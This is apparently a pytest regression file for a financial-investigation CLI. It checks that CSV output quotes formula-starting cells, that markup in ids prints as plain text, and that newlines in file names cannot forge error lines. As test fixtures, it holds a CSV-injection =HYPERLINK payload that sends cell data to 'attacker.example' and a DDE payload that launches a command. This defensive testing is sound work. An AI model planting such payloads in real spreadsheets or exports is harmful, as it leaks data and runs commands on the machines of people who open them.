"""Text from the data never becomes a spreadsheet formula, rich markup or a forged line.
The red-team trial: `screen --format csv` wrote `=HYPERLINK(…)` and `@SUM(…)` cells as they
were; a holder id `[/x]P-…` crashed `screen` (MarkupError) after the results were written; a
CSV header `foo[/x]` crashed `ingest`; a newline in a file name forged an `Error:` line."""

from __future__ import annotations

import csv
import gzip
import io
import json
from pathlib import Path

import polars as pl
import pytest
from click.testing import CliRunner

from fininvest.cli.output import FORMULA_START, csv_safe, printable, safe_cell
from fininvest.workspace import Workspace, init_workspace
from tests.conftest import SAMPLE_DATA, invoke

#: party ids as the people under investigation could choose them: a formula and rich markup
HOSTILE_PERSON = '=HYPERLINK("http://attacker.example/?"&A1,"x")[/x]P-0'
HOSTILE_COMPANY = "@SUM(1+1)*cmd|' /C calc'!A0[bold]C-0"


@pytest.fixture(scope="module")
def hostile_case(tmp_path_factory: pytest.TempPathFactory) -> Workspace:
    """The sample case with every person id and company id rewritten as above, ingested."""
    ws = init_workspace(tmp_path_factory.mktemp("hostile") / "case", name="hostile")
    for src in sorted((SAMPLE_DATA / "raw").iterdir()):
        raw = src.read_bytes()
        text = (gzip.decompress(raw) if src.suffix == ".gz" else raw).decode("utf-8")
        if src.suffix in (".csv", ".gz"):  # CSV: quote the rewritten ids (they hold commas)
            rows = list(csv.reader(io.StringIO(text)))
            out = io.StringIO()
            w = csv.writer(out, lineterminator="\n")
            for row in rows:
                w.writerow(
                    [c.replace("P-0", HOSTILE_PERSON).replace("C-0", HOSTILE_COMPANY) for c in row]
                )
            text = out.getvalue()
        target = ws.path("raw", src.name)
        data = text.encode("utf-8")
        target.write_bytes(gzip.compress(data) if src.suffix == ".gz" else data)
    assert (
        invoke(
            CliRunner(),
            "ingest",
            ws.root,
            "-q",
            "--kind",
            "bank",
            ws.path("raw", "bank_transactions.csv.gz"),
        ).exit_code
        == 0
    )
    assert invoke(CliRunner(), "ingest", ws.root, "-q").exit_code == 0
    return ws


def test_csv_cells_that_start_a_formula_get_a_quote() -> None:
    cells = [f"{c}1+1" for c in FORMULA_START] + ["ES61 0000", "", "a=b", "'=x"]
    df = pl.DataFrame({"id": cells, "n": list(range(len(cells)))})
    out = csv_safe(df)
    assert out["id"].to_list()[: len(FORMULA_START)] == [f"'{c}1+1" for c in FORMULA_START]
    assert out["id"].to_list()[len(FORMULA_START) :] == ["ES61 0000", "", "a=b", "'=x"]
    assert out["n"].to_list() == df["n"].to_list()  # numbers stay numbers
    assert [safe_cell(c) for c in cells] == out["id"].to_list()  # one rule for csv.writer too


def test_screen_csv_has_no_live_formula_and_json_stays_exact(
    hostile_case: Workspace, runner: CliRunner
) -> None:
    res = invoke(runner, "screen", hostile_case.root, "--format", "csv")
    assert res.exit_code == 0, res.output
    rows = list(csv.DictReader(io.StringIO(res.stdout)))
    holders = [r["holder_id"] for r in rows if r["holder_id"]]
    assert any(HOSTILE_PERSON in h for h in holders)
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(FORMULA_START), cell
    doc = json.loads(invoke(runner, "screen", hostile_case.root, "--format", "json").stdout)
    assert any(a["holder_id"].startswith("=HYPERLINK") for a in doc["alerts"] if a["holder_id"])
    stored = pl.read_parquet(hostile_case.path("results", "alerts.parquet"))
    assert stored["holder_id"].drop_nulls().str.starts_with("=HYPERLINK").any()


def test_screen_table_prints_markup_in_ids_as_text(
    hostile_case: Workspace, runner: CliRunner
) -> None:
    res = invoke(runner, "screen", hostile_case.root, "--top", "50")
    assert res.exit_code == 0, res.output  # was: MarkupError, exit 1
    assert "HYPERLINK" in res.stdout  # the ids are printed as text (folded by the table)


@pytest.mark.parametrize(
    ("name", "header", "shown"),
    [
        ("odd.csv", "foo[/x],bar[bold]", "foo[/x]"),  # was: MarkupError, exit 1
        ("x\nError: fake line.csv", "foo,bar", "x\\nError: fake line.csv"),  # was: a forged line
    ],
)
def test_unreadable_file_is_a_clean_error_printed_as_text(
    ws: Workspace, tmp_path: Path, runner: CliRunner, name: str, header: str, shown: str
) -> None:
    bad = tmp_path / name
    bad.write_text(header + "\n1,2\n")
    res = invoke(runner, "ingest", ws.root, bad)
    assert res.exit_code == 3  # bad input, not a crash
    assert shown in res.stderr
    assert not any(line.startswith("Error: fake") for line in res.stderr.splitlines())


def test_control_characters_are_shown_escaped() -> None:
    assert printable("a\x1b[31mb\r") == "a\\x1b[31mb\\r"
    assert printable("Müller, Ａ") == "Müller, Ａ"
